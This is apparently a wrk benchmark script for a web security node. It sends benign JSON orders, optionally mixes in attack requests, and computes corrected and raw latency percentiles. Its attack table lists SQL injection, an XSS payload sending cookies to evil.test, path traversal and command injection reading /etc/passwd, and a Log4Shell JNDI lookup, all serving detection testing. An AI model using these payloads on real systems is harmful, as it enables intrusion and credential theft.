-- post.lua -- wrk script for edgenode's throughput bench: connector-style POSTs of a 1 KB JSON body.
-- With ATTACK_EVERY=n in the environment, every n-th request carries an attack (path, query or body).
local attack_every = tonumber(os.getenv("ATTACK_EVERY") or "0")
local fill = string.rep("lorem ipsum dolor sit amet ", 36)
local benign = '{"user":{"id":4711,"name":"Alice Example","email":"alice@example.com"},' ..
               '"items":[{"sku":"B-100","qty":2},{"sku":"C-220","qty":1}],"note":"' .. fill .. '"}'
benign = benign .. string.rep(" ", 1024 - #benign)
-- With BODY_SHAPE=fields, the benign body is an order of 40 short values instead (993 bytes, the
-- detection replay's benign request): detection's work per value repeats, so it costs the node
-- almost three times the instructions of the body above, which is one long value of prose.
if os.getenv("BODY_SHAPE") == "fields" then
  benign = '{"user":{"id":12345,"name":"Alice Example","email":"alice@example.com","roles":["admin","developer"],' ..
    '"address":{"street":"12 Long Street","city":"Berlin","zip":"10115","country":"DE"}},' ..
    '"order":{"id":"ord_8f7d6c5b4a","created":"2024-05-01T12:34:56Z","items":[{"sku":"A-100","name":' ..
    '"Blue widget","qty":2,"price":19.99},{"sku":"B-200","name":"Red gadget, large","qty":1,"price":49.5},' ..
    '{"sku":"C-300","name":"Green thing","qty":5,"price":3.25}],"note":"Please deliver after 5pm. ' ..
    'Ring the bell twice.","coupon":"SPRING-2024","total":105.74},"meta":{"client":"web","version":' ..
    '"3.14.1","locale":"en-US","tz":"Europe/Berlin","ref":"https://shop.example.com/cart?step=2"},' ..
    '"tracking":{"session":"d41d8cd98f00b204e9800998ecf8427e","campaign":"newsletter_may","source":' ..
    '"email","referrer":"https://www.example.org/blog/2024/05/spring-sale?utm_medium=email"},"flags":{"gift"' ..
    ':false,"express":true,"newsletter":true},"comment":"Second order this month; the first one arrived on ' ..
    'time and in good shape. Thanks!"}'
end
local attacks = {
  {"/api/search?q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--", benign},
  {"/api/comments", '{"comment":"<script>fetch(\\"//evil.test/\\"+document.cookie)</script>"}'},
  {"/api/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd", benign},
  {"/api/ping", '{"host":"127.0.0.1; cat /etc/passwd"}'},
  {"/api/log", '{"ua":"${jndi:ldap://evil.test/a}"}'},
}
local headers = {
  ["Content-Type"] = "application/json",
  ["X-Forwarded-Host"] = "api.example.com",
  ["X-Real-IP"] = "203.0.113.7",
  ["X-Connector"] = "bench/1.0.0",
  ["X-Connector-Mode"] = "inline",
  ["X-Connector-Request-Id"] = "00000000deadbeef",
}
local n = 0
request = function()
  n = n + 1
  if attack_every > 0 and n % attack_every == 0 then
    local a = attacks[(n / attack_every) % #attacks + 1]
    return wrk.format("POST", a[1], headers, a[2])
  end
  return wrk.format("POST", "/api/orders?page=2&sort=desc", headers, benign)
end

-- wrk prints the 50/75/90/99th percentiles with --latency; the bench also wants the 99.9th (in us).
-- Those are wrk's corrected figures: after the run wrk adds, for every response slower than twice the
-- mean cycle e = duration / (requests / connections), made-up samples at L - e, L - 2e, ... (down to e)
-- for the requests a steady client would have sent meanwhile (stats_correct,
-- https://github.com/wg/wrk/blob/master/src/stats.c).
-- The correction is exact arithmetic on the histogram, so it is undone here (highest latency first,
-- each value less what the values above it in the same residue mod e added) to give the per-request
-- distribution as well: "dist_us" is wrk's corrected one, "raw_us" the measured one (its count is the
-- number of requests, which checks the inversion). BENCH_CONNS is wrk's -c.
local function percentile(vals, cnts, total, p)
  local rank, t = math.floor(p / 100 * total + 1), 0
  for i = 1, #vals do
    t = t + cnts[i]
    if t >= rank then return vals[i] end
  end
  return 0
end

done = function(summary, latency, requests)
  io.write(string.format("p99.9_us %d\n", latency:percentile(99.9)))
  io.write(string.format("dist_us %.1f %d %d %d %d\n", latency.mean, latency:percentile(50),
    latency:percentile(90), latency:percentile(99), latency:percentile(99.9)))
  local conns = tonumber(os.getenv("BENCH_CONNS") or "0")
  local per = conns > 0 and math.floor(summary.requests / conns) or 0
  if per == 0 then return end
  local e = math.floor(summary.duration / per)
  local vals, cnts, acc, total, sum = {}, {}, {}, 0, 0
  for i = 1, #latency do vals[i], cnts[i] = latency(i) end
  for i = #vals, 1, -1 do
    local v, r = vals[i], vals[i] % e
    if v > e then cnts[i] = cnts[i] - (acc[r] or 0) end
    acc[r] = (acc[r] or 0) + cnts[i]
    total, sum = total + cnts[i], sum + cnts[i] * v
  end
  if total == 0 then return end
  io.write(string.format("raw_us %.1f %d %d %d %d %d\n", sum / total, percentile(vals, cnts, total, 50),
    percentile(vals, cnts, total, 90), percentile(vals, cnts, total, 99), percentile(vals, cnts, total, 99.9), total))
end
